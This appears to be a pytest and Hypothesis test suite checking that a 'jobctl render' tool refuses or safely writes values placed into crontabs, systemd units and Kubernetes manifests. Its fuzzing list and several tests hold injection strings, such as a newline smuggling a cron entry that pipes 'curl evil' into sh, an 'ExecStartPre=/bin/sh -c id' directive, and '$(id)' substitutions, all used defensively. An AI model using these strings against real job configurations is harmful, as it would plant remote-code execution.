"""`jobctl render`: no value reaches a crontab, a unit or a manifest unchecked.

Every case runs the real `jobctl` in a subprocess. A value is either refused (2, or 64 for what
the job runner refuses: one line naming the option, no traceback, nothing on stdout, no file
written) or the output parses, in its own file's grammar, into exactly what the renderer means
to write: one crontab entry per scheduled job, the fixed set of directives per unit, the
expected Kubernetes objects (valid per kubernetes-validate), each holding the value given.
"""

import argparse
import contextlib
import io
import os
import posixpath
import re
import shlex
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path
from types import SimpleNamespace

import kubernetes_validate
import pytest
import yaml
from django.core.management.base import CommandError
from hypothesis import HealthCheck, example, given, seed, settings
from hypothesis import strategies as st

from batch_jobs.framework.schedule import expand
from batch_jobs.operations import allowlist, catalog
from batch_jobs.operations.render import cron
from batch_jobs.operations.render.values import Invalid
from tests.support.boundary import assert_contract
from tests.support.reliability import SEED, cases

JOBCTL = Path(sys.executable).with_name("jobctl")
IMAGE = "registry.example.com/team/jobs:1.2"

PROPERTY = settings(
    max_examples=cases(100, 6),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def jobctl(*args, cwd=None):
    """``jobctl ARGS`` as a process: (exit code, stdout, stderr), the streams decoded strictly
    (a renderer writes text, whatever it was given)."""
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"}
    result = subprocess.run([JOBCTL, *args], capture_output=True, env=env, cwd=cwd, timeout=60)
    return result.returncode, result.stdout.decode(), result.stderr.decode()


def option(name, value):
    """``--name=value``, as text or, for bytes that are not UTF-8, as bytes."""
    if isinstance(value, bytes):
        return name.encode() + b"=" + value
    return f"{name}={value}"


@pytest.fixture(scope="module")
def app():
    """The app name the renderers default to (JOB_APP_NAME)."""
    from batch_jobs.conf import setting

    return setting("JOB_APP_NAME")


@pytest.fixture(scope="module")
def scheduled():
    """``{name: job}`` of the scheduled jobs, as the subprocess's catalog has them."""
    return {job.name: job for job in catalog.scheduled_jobs()}


def assert_refused(code, stdout, stderr, name, codes=(2,)):
    """Refused: a code from ``codes``, one line on stderr naming the option, nothing on stdout."""
    assert_contract(code, stdout, stderr, allowed=frozenset(codes))
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), stderr
    assert name in lines[0], stderr
    assert stdout == ""


# -- values --------------------------------------------------------------------------------

_NUL_FREE = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
NASTY = [
    "a\n* * * * * curl evil|sh",
    "root\nExecStartPre=/bin/sh -c id",
    "/etc/x\nExecStartPre=/bin/sh -c id",
    "x\ry",
    "tab\there",
    "\x1b[31mred",
    "\u202eevil",
    "line\u2028sep",
    "50%",
    "%n",
    "back\\slash",
    "trailing\\",
    "$(id)",
    "${HOME}",
    "`id`",
    "it's",
    'say "hi"',
    "a b",
    " lead",
    "trail ",
    ";",
    "-",
    "",
    "0",
    "99999999999999999999",
    "\uff11\uff12",  # fullwidth digits, which int() takes
    "1_000",
    "Bad_NS!",
    "caf\u00e9",
    "a" * 300,
]


def values(plausible):
    """Text for an option: plausible values (so that the accepted side is exercised), the
    same with a nasty tail, nasty ones, any text, and bytes that may not be UTF-8."""
    return st.one_of(
        plausible,
        st.tuples(plausible, st.sampled_from(NASTY)).map("".join),
        st.sampled_from(NASTY),
        st.text(_NUL_FREE, max_size=60),
        st.binary(max_size=30).filter(lambda b: b"\0" not in b),
    )


PATHS = values(st.from_regex(r"\A/[a-zA-Z0-9_./% '-]{0,30}\Z"))
LABELS = values(st.from_regex(r"\A[a-z0-9-]{1,45}\Z"))
SUBDOMAINS = values(st.from_regex(r"\A[a-z0-9.-]{1,40}\Z"))
USERS = values(
    st.one_of(st.from_regex(r"\A[a-z_][a-z0-9_-]{0,34}\Z"), st.integers(0, 70000).map(str))
)
UIDS = values(st.integers(-3, 2**40).map(str))
IMAGES = values(
    st.from_regex(
        r"\A([a-z0-9.-]{1,12}(:[0-9]{1,5})?/)?[a-z0-9._/-]{1,20}(:[A-Za-z0-9_.-]{1,10})?\Z"
    )
)


def text_of(value):
    """What ``jobctl`` reads from argv: bytes decoded as Python decodes argv."""
    return os.fsdecode(value) if isinstance(value, bytes) else value


# -- crontab -------------------------------------------------------------------------------

SAFE_WORD = re.compile(r"[\w@%+=:,./-]+", re.ASCII)  # what shlex.quote leaves bare
CRONTAB_OPTIONS = {"--app-name": LABELS, "--job-bin": PATHS, "--project-dir": PATHS}
CRONTAB_OPTIONS["--log-dir"] = PATHS


def unquoted(command):
    """The characters of a shell command outside quotes, as shlex.quote writes quotes:
    '...' around a word, and "'" for a single quote inside one."""
    outside, i = [], 0
    while i < len(command):
        if command[i] == "'":
            i = command.index("'", i + 1) + 1
        elif command.startswith('"\'"', i):
            i += 3
        else:
            outside.append(command[i])
            i += 1
    return "".join(outside)


def assert_crontab(text, jobs, job_bin, project_dir, log_dir):
    """Exactly the renderer's lines: its comments, its three kinds of variable, and one entry
    per scheduled job, each a command that sh splits into exactly the expected words."""
    entries = []
    for line in text.splitlines():
        if line.startswith("#"):
            continue
        name, eq, _ = line.partition("=")
        if eq and name in ("SHELL", "DJANGO_SETTINGS_MODULE", "CRON_TZ"):
            continue
        entries.append(line)
    assert len(entries) == len(jobs), text
    for line, job in zip(entries, jobs.values(), strict=True):
        fields = line.split(" ", 5)
        assert fields[:5] == expand(job.schedule).split(), line
        command = fields[5]
        assert "%" not in command, line  # cron would turn it into a newline
        # Outside single quotes, only words shlex.quote leaves bare and the fixed operators:
        # nothing the shell would expand, split or run.
        for word in unquoted(command).split():
            assert word in ("&&", ">>", "2>&1") or SAFE_WORD.fullmatch(word), (word, line)
        log = f"{log_dir.rstrip('/')}/{job.name}.log"
        assert shlex.split(command) == [
            "cd", project_dir, "&&", job_bin, job.name, *job.scheduled_args, ">>", log, "2>&1",
        ]  # fmt: skip


@PROPERTY
@seed(SEED)
@given(data=st.data())
def test_any_value_of_a_crontab_option_is_refused_or_written_as_itself(
    data, scheduled, app, report
):
    name = data.draw(st.sampled_from(sorted(CRONTAB_OPTIONS)), label="option")
    value = data.draw(CRONTAB_OPTIONS[name], label="value")
    given_ = {"--job-bin": "/opt/venv/bin/job", "--project-dir": "/srv/app"}
    given_[name] = value
    args = [option(k, v) for k, v in given_.items()]
    code, stdout, stderr = jobctl("render", "crontab", *args)
    report.add("render crontab: option values (hypothesis)", code, {0, 2})
    if code != 0:
        assert_refused(code, stdout, stderr, name)
        return
    assert_contract(code, stdout, stderr)
    text = text_of(value)
    written = {k: text_of(v) for k, v in given_.items()}
    app = written.get("--app-name", app)
    assert_crontab(
        stdout,
        scheduled,
        posixpath.normpath(written["--job-bin"]),
        posixpath.normpath(written["--project-dir"]),
        posixpath.normpath(written.get("--log-dir", f"/var/log/{app}")),
    )
    assert text  # an empty value is never written


def test_an_app_name_with_a_newline_adds_no_crontab_line():
    code, stdout, stderr = jobctl("render", "crontab", "--app-name", "a\n* * * * * curl evil|sh")
    assert_refused(code, stdout, stderr, "--app-name")
    assert "must not contain control characters" in stderr


def test_a_log_dir_with_a_percent_is_refused_naming_it():
    code, stdout, stderr = jobctl("render", "crontab", "--log-dir", "/var/log/50%")
    assert_refused(code, stdout, stderr, "--log-dir")
    assert "which cron turns into a newline" in stderr


# -- systemd -------------------------------------------------------------------------------

SERVICE = {
    "Unit": {"Description", "After", "Wants"},
    "Service": {
        "Type", "User", "WorkingDirectory", "Environment", "EnvironmentFile", "ExecStart",
        "KillSignal", "TimeoutStopSec",
    },
}  # fmt: skip
TIMER = {"Unit": {"Description"}, "Timer": {"OnCalendar", "Persistent"}, "Install": {"WantedBy"}}


def unit_directives(text):
    """``{section: {key: value}}`` as systemd reads a unit file (no line continued, no key
    twice)."""
    sections, current = {}, None
    for line in text.splitlines():
        assert not line.endswith("\\"), f"a continued line: {line!r}"
        if not line.strip() or line.startswith(("#", ";")):
            continue
        if line.startswith("["):
            assert line.endswith("]") and line[1:-1] not in sections, line
            current = sections.setdefault(line[1:-1], {})
            continue
        key, eq, value = line.partition("=")
        assert eq and current is not None and key not in current, line
        current[key.strip()] = value.strip()
    return sections


def specifiers_resolved(value):
    """``value`` after systemd's specifier expansion, asserting it holds none but ``%%``."""
    assert re.fullmatch(r"(?:[^%]|%%)*", value), f"a specifier in {value!r}"
    return value.replace("%%", "%")


_ESCAPES = {"\\": "\\", '"': '"', "'": "'", "n": "\n", "t": "\t", "s": " "}


def command_words(value):
    """The words of an ``ExecStart=`` line as systemd splits them: quotes, C escapes, then
    in the arguments ``$$`` for a dollar (asserting no variable is referenced; the executable
    is taken literally)."""
    value = specifiers_resolved(value)
    words, word, quote, i, started = [], "", None, 0, False
    while i < len(value):
        c = value[i]
        if c == "\\":
            word, i, started = word + _ESCAPES[value[i + 1]], i + 2, True
            continue
        if quote:
            if c == quote:
                quote = None
            else:
                word += c
        elif c in "\"'":
            quote, started = c, True
        elif c in " \t":
            if started:
                words.append(word)
            word, started = "", False
        else:
            word, started = word + c, True
        i += 1
    assert quote is None, value
    if started:
        words.append(word)
    resolved = words[:1]
    for word in words[1:]:
        assert word != ";", value
        assert re.fullmatch(r"(?:[^$]|\$\$)*", word), f"a variable in {word!r}"
        resolved.append(word.replace("$$", "$"))
    return resolved


def assert_units(directory, jobs, app, job_bin, project_dir, env_file, user):
    expected = {
        f"{app}-{job.replace('_', '-')}.{kind}" for job in jobs for kind in ("service", "timer")
    }
    assert {p.name for p in directory.iterdir()} == expected
    for name, job in jobs.items():
        unit = f"{app}-{name.replace('_', '-')}"
        service = unit_directives((directory / f"{unit}.service").read_text())
        keys = {section: set(d) for section, d in service.items()}
        want = {**SERVICE, "Service": SERVICE["Service"] | {"TimeoutStartSec"}}
        assert keys == (want if job.declared.max_runtime else SERVICE)
        assert service["Service"]["User"] == user
        assert specifiers_resolved(service["Service"]["WorkingDirectory"]) == project_dir
        assert specifiers_resolved(service["Service"]["EnvironmentFile"]) == env_file
        assert command_words(service["Service"]["ExecStart"]) == [
            job_bin,
            name,
            *job.scheduled_args,
        ]
        specifiers_resolved(service["Unit"]["Description"])
        timer = unit_directives((directory / f"{unit}.timer").read_text())
        assert {section: set(d) for section, d in timer.items()} == TIMER
    if SYSTEMD_ANALYZE:  # and as systemd itself reads one of them
        name, job = next(iter(jobs.items()))
        loaded = as_systemd_loads_it(directory / f"{app}-{name.replace('_', '-')}.service")
        assert loaded["ExecStart"] == [job_bin, name, *job.scheduled_args]
        assert (loaded["User"], loaded["WorkingDirectory"]) == (user, project_dir)
        assert loaded["EnvironmentFile"] == env_file
        assert loaded["Description"] == f"{app}: {job.help}"


SYSTEMD_OPTIONS = {
    "--app-name": LABELS,
    "--job-bin": PATHS,
    "--project-dir": PATHS,
    "--env-file": PATHS,
    "--user": USERS,
}


@PROPERTY
@seed(SEED)
@given(data=st.data())
def test_any_value_of_a_systemd_option_is_refused_or_written_as_itself(
    data, scheduled, app, tmp_path_factory, report
):
    name = data.draw(st.sampled_from(sorted(SYSTEMD_OPTIONS)), label="option")
    value = data.draw(SYSTEMD_OPTIONS[name], label="value")
    out = tmp_path_factory.mktemp("units") / "out"
    given_ = {"--job-bin": "/opt/venv/bin/job", "--project-dir": "/srv/app"}
    given_[name] = value
    args = [option(k, v) for k, v in given_.items()]
    code, stdout, stderr = jobctl("render", "systemd", *args, "--output-dir", str(out))
    report.add("render systemd: option values (hypothesis)", code, {0, 2})
    if code != 0:
        assert_refused(code, stdout, stderr, name)
        assert not out.exists(), "a file was written"
        return
    assert_contract(code, stdout, stderr)
    written = {k: text_of(v) for k, v in given_.items()}
    app = written.get("--app-name", app)
    user = written.get("--user", app)
    assert_units(
        out,
        scheduled,
        app,
        posixpath.normpath(written["--job-bin"]),
        posixpath.normpath(written["--project-dir"]),
        posixpath.normpath(written.get("--env-file", f"/etc/{app}.env")),
        str(int(user)) if user.isascii() and user.isdigit() else user,
    )


@pytest.mark.parametrize("name", ["--user", "--env-file"])
def test_a_newline_adds_no_unit_directive(name, tmp_path):
    value = ("" if name == "--user" else "/etc/x") + "root\nExecStartPre=/bin/sh -c id"
    out = tmp_path / "units"
    code, stdout, stderr = jobctl("render", "systemd", name, value, "--output-dir", str(out))
    assert_refused(code, stdout, stderr, name)
    assert not out.exists()


def test_a_value_refused_in_any_unit_leaves_no_unit_written(tmp_path):
    """The units are all rendered in memory before the first is written."""
    out = tmp_path / "units"
    code, stdout, stderr = jobctl(
        "render", "systemd", "--job-bin", "/opt/venv/bin/job", "--project-dir", "/srv/a\\b",
        "--output-dir", str(out),
    )  # fmt: skip
    assert_refused(code, stdout, stderr, "--project-dir")
    assert not out.exists()


class _Declared:
    max_runtime = None
    stop_grace_seconds = 60


class _Words:
    """A command whose parser takes any words (argparse's, as a job's is)."""

    help = "Costs 100% of \x1b[31mnothing\\"
    _batch_job = _Declared()

    def create_parser(self, prog, name):
        parser = argparse.ArgumentParser(prog=prog)
        parser.add_argument("words", nargs="*")
        return parser


def _odd_job(scheduled_args):
    """A scheduled job as the catalog gives it, declaring ``scheduled_args``."""
    return SimpleNamespace(
        name="odd_args",
        command=_Words(),
        schedule="@daily",
        timezone=None,
        scheduled_args=list(scheduled_args),
        help=_Words.help,
    )


def test_free_text_and_arguments_are_encoded_for_the_unit_grammar():
    """A job's help is free text: escaped, never refused; its scheduled arguments are words
    of ExecStart, quoted so that systemd reads each back as it is."""
    job = _odd_job(["a b", "$HOME", "%n", 'say "hi"', "back\\slash", "it's", ""])
    host = cron.Host("tests.settings", "/opt/venv/bin/job", "/srv/app", "app")
    units = cron.systemd_units([job], host)
    service = unit_directives(units["app-odd-args.service"])
    assert command_words(service["Service"]["ExecStart"]) == [
        "/opt/venv/bin/job", "odd_args", *job.scheduled_args,
    ]  # fmt: skip
    description = specifiers_resolved(service["Unit"]["Description"])
    assert description == "app: Costs 100% of \\x1b[31mnothing"
    with pytest.raises(cron.Unwritable, match="lone ';'"):
        cron.systemd_units([_odd_job([";"])], host)
    with pytest.raises(Invalid, match="control characters"):
        cron.crontab([_odd_job(["line\nbreak"])], host)


def as_systemd_loads_it(unit):
    """The settings of the ``.service`` file ``unit`` as systemd itself loads them:
    ``systemd-analyze verify`` at debug level dumps the loaded unit (its command line
    shell-quoted; the arguments' ``$$`` become ``$`` when systemd runs it). Asserts that
    systemd ignored nothing in it."""
    result = subprocess.run(
        [SYSTEMD_ANALYZE, "verify", str(unit)],
        capture_output=True,
        text=True,
        env={**os.environ, "SYSTEMD_LOG_LEVEL": "debug"},
        timeout=120,
    )
    log = result.stdout + result.stderr
    mine = [line for line in log.splitlines() if unit.name in line or str(unit) in line]
    # The executable need not exist here (the units may be rendered for another machine).
    assert not [line for line in mine if re.search(r"ignor|Unbalanced|bad|special", line)]
    assert f"-> Unit {unit.name}:" in log, log[-3000:]
    block = log.split(f"-> Unit {unit.name}:", 1)[1]
    loaded = {}
    for key in ("Description", "User", "WorkingDirectory", "Environment", "EnvironmentFile"):
        found = re.search(rf"^\s*{key}: (.*)$", block, re.MULTILINE)
        loaded[key] = found[1] if found else None
    command = re.search(r"-> ExecStart:\n\s*Command Line: (.*)", block)[1]
    words = [
        re.sub(r"\\(.)", r"\1", quoted) if quoted or not bare else bare
        for quoted, bare in re.findall(r'"((?:[^"\\]|\\.)*)"|(\S+)', command)
    ]
    loaded["ExecStart"] = words[:1] + [word.replace("$$", "$") for word in words[1:]]
    loaded["log"] = mine
    return loaded


SYSTEMD_ANALYZE = shutil.which("systemd-analyze")


@pytest.mark.skipif(not SYSTEMD_ANALYZE, reason="systemd-analyze is not installed here")
def test_systemd_itself_reads_back_the_words_of_exec_start(tmp_path):
    """Not a model of the grammar: systemd's own parser, on a unit whose executable and
    arguments hold quotes, backslashes, dollars, percents and spaces."""
    job_bin = tmp_path / "bin $HOME 100%" / "job"
    job_bin.parent.mkdir()
    job_bin.write_text("#!/bin/sh\n")
    job_bin.chmod(0o755)
    job = _odd_job(["a b", "$HOME", "${HOME}", "%n", 'say "hi"', "back\\slash", "it's", "", "x"])
    host = cron.Host("tests.settings", str(job_bin), str(tmp_path), "app", user="root")
    for name, content in cron.systemd_units([job], host).items():
        (tmp_path / name).write_text(content)
    loaded = as_systemd_loads_it(tmp_path / "app-odd-args.service")
    assert loaded["ExecStart"] == [str(job_bin), "odd_args", *job.scheduled_args]
    assert not [line for line in loaded["log"] if "not executable" in line]
    assert loaded["Description"] == "app: Costs 100% of \\x1b[31mnothing"
    # systemd refuses a quote or a backslash in the executable's path: so does the renderer.
    quoted = cron.Host("tests.settings", f"{tmp_path}/it's/job", str(tmp_path), "app")
    with pytest.raises(cron.Unwritable, match="systemd refuses there"):
        cron.systemd_units([job], quoted)


# -- Kubernetes ----------------------------------------------------------------------------

KUBERNETES_OPTIONS = {
    "--image": IMAGES,
    "--namespace": LABELS,
    "--app-name": LABELS,
    "--secret": SUBDOMAINS,
    "--uid": UIDS,
}


def manifests(text):
    lines = text.splitlines()
    assert lines[0].startswith("# Generated by `") and lines[0].endswith("not this file.")
    assert not any(line.startswith("#") for line in lines[1:]), "a second comment line"
    return [d for d in yaml.safe_load_all(text) if d]


def pod_spec(manifest):
    spec = manifest["spec"]
    return (spec["jobTemplate"]["spec"] if manifest["kind"] == "CronJob" else spec)["template"][
        "spec"
    ]


@PROPERTY
@seed(SEED)
@given(data=st.data())
def test_any_value_of_a_kubernetes_option_is_refused_or_written_as_itself(
    data, scheduled, app, report
):
    name = data.draw(st.sampled_from(sorted(KUBERNETES_OPTIONS)), label="option")
    value = data.draw(KUBERNETES_OPTIONS[name], label="value")
    given_ = {"--image": IMAGE, name: value}
    code, stdout, stderr = jobctl(
        "render", "kubernetes", *[option(k, v) for k, v in given_.items()]
    )
    report.add("render kubernetes: option values (hypothesis)", code, {0, 2})
    if code != 0:
        assert_refused(code, stdout, stderr, name)
        return
    assert_contract(code, stdout, stderr)
    written = {k: text_of(v) for k, v in given_.items()}
    found = manifests(stdout)
    assert [(m["kind"], m["metadata"]["name"]) for m in found] == [
        ("CronJob", job.replace("_", "-")) for job in scheduled
    ]
    app = written.get("--app-name", app)
    for manifest in found:
        kubernetes_validate.validate(manifest, "1.31", strict=True)
        assert manifest["metadata"].get("namespace") == written.get("--namespace")
        assert manifest["metadata"]["labels"]["app.kubernetes.io/name"] == app
        pod = pod_spec(manifest)
        assert pod["securityContext"]["runAsUser"] == int(written.get("--uid", "10001"))
        assert pod["containers"][0]["image"] == written["--image"]
        secret = pod["volumes"][1]["secret"]["secretName"]
        assert secret == written.get("--secret", app)


def test_a_namespace_that_is_not_a_dns_label_is_refused():
    code, stdout, stderr = jobctl(
        "render", "kubernetes", "--image", IMAGE, "--namespace", "Bad_NS!"
    )
    assert_refused(code, stdout, stderr, "--namespace")
    assert "DNS label (RFC 1123)" in stderr


def test_a_uid_out_of_range_is_refused():
    code, stdout, stderr = jobctl(
        "render", "kubernetes", "--image", IMAGE, "--uid", "99999999999999999999"
    )
    assert_refused(code, stdout, stderr, "--uid")
    assert "from 1 to 2147483647" in stderr


def test_an_image_tag_outside_ascii_is_refused():
    code, stdout, stderr = jobctl("render", "kubernetes", "--image", "jobs:caf\u00e9")
    assert_refused(code, stdout, stderr, "--image")


def test_an_option_that_is_not_utf8_is_refused_in_one_line():
    code, stdout, stderr = jobctl("render", "kubernetes", "--image", IMAGE, b"--namespace=\xff")
    assert_refused(code, stdout, stderr, "--namespace")


# -- a one-off job's arguments -------------------------------------------------------------

ONE_OFF = "upper_items"
ARGUMENT_WORDS = st.one_of(
    st.sampled_from(
        [
            "--strategy", "set", "fast", "--settings=os", "--sett=x", "--pythonpath", "--py",
            "--help", "-h", "--version", "--shard", "1/2", "--dry-run", "--max-runtime", "5",
            "--no-lock", "--", "-", "--bogus", "line\nbreak", "\x1b[2J",
        ]
    ),
    st.text(_NUL_FREE, max_size=20),
)  # fmt: skip


# Whole options of the job, their values sometimes bad: so that accepted arguments are drawn
# as well as refused ones.
OPTION_GROUPS = st.one_of(
    st.tuples(st.just("--strategy"), st.sampled_from(["set", "python", "fast"])),
    st.tuples(
        st.sampled_from(["--batch-size", "--max-runtime", "--throttle", "--max-lag"]),
        st.one_of(st.integers(-5, 10**6).map(str), st.text(_NUL_FREE, max_size=8)),
    ),
    st.tuples(st.just("--shard"), st.from_regex(r"\A[0-9]{1,2}/[0-9]{1,2}\Z")),
    st.tuples(st.sampled_from(["--dry-run", "--no-lock", "--restart", "--traceback"])),
)
ARGUMENTS = st.one_of(
    st.lists(OPTION_GROUPS, max_size=3).map(lambda groups: [w for g in groups for w in g]),
    st.lists(ARGUMENT_WORDS, max_size=5),
)


def runner_verdict(job, args):
    """What `job` does with ARGS before running: 64 for what the runner refuses, 2 for what the
    job's parser refuses (or --help, which runs nothing), 0 otherwise."""
    try:
        allowlist.check_options(args)
    except allowlist.Refused:
        return 64
    if any(unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp") for a in args for c in a):
        return 2  # no rendered file carries a control character
    try:
        with contextlib.redirect_stdout(io.StringIO()):  # --help prints, then exits
            job.command.create_parser("job", job.name).parse_args(args)
    except (CommandError, SystemExit):
        return 2
    return 0


@PROPERTY
@seed(SEED)
@given(args=ARGUMENTS)
@example(args=["--settings=os"])
@example(args=["--strategy", "set"])
def test_a_one_off_jobs_arguments_are_checked_as_the_runner_checks_them(args, report):
    expected = runner_verdict(catalog.get(ONE_OFF), args)
    code, stdout, stderr = jobctl(
        "render", "kubernetes", "--image", IMAGE, "--job", ONE_OFF, "--", *args
    )
    report.add("render kubernetes --job: arguments (hypothesis)", code, {0, 2, 64})
    assert code == expected, (args, stderr)
    if code != 0:
        assert_refused(code, stdout, stderr, "arguments after --", codes=(expected,))
        return
    (manifest,) = manifests(stdout)
    kubernetes_validate.validate(manifest, "1.31", strict=True)
    assert pod_spec(manifest)["containers"][0]["args"] == ["job", ONE_OFF, *args]


@pytest.mark.parametrize(
    ("args", "code", "rule"),
    [
        (["--settings=os"], 64, "option --settings is not accepted by the job runner"),
        (["--pythonp", "x"], 64, "option --pythonp is not accepted by the job runner"),
        (["--nope"], 2, "job normalize_emails would refuse them: unrecognized arguments: --nope"),
        (["--help"], 2, "would print its help or version and run nothing"),
    ],
)
def test_one_off_arguments_the_runner_or_the_job_refuses(args, code, rule):
    result = jobctl(
        "render", "kubernetes", "--image", IMAGE, "--job", "normalize_emails", "--", *args
    )
    assert_refused(*result, "arguments after --", codes=(code,))
    assert rule in result[2]


def test_a_one_off_job_name_the_runner_refuses_exits_64():
    code, stdout, stderr = jobctl("render", "kubernetes", "--image", IMAGE, "--job", "Bad!")
    assert_refused(code, stdout, stderr, "--job", codes=(64,))


def test_a_namespace_go_reads_as_a_boolean_stays_a_string():
    """`y` and `n` are DNS labels, and booleans to the YAML 1.1 parser in Go that kubectl
    uses (PyYAML reads them as strings, and would leave them bare)."""
    code, stdout, stderr = jobctl(
        "render", "kubernetes", "--image", IMAGE, "--namespace", "y", "--app-name", "n"
    )
    assert_contract(code, stdout, stderr, allowed={0})
    assert "  namespace: 'y'\n" in stdout
    assert "    app.kubernetes.io/name: 'n'\n" in stdout
    assert all(m["metadata"]["namespace"] == "y" for m in manifests(stdout))


def test_a_unit_user_id_0_is_written_not_taken_for_the_default():
    code, stdout, stderr = jobctl("render", "systemd", "--user", "0")
    assert_contract(code, stdout, stderr, allowed={0})
    users = {line for line in stdout.splitlines() if line.startswith("User=")}
    assert users == {"User=0"}
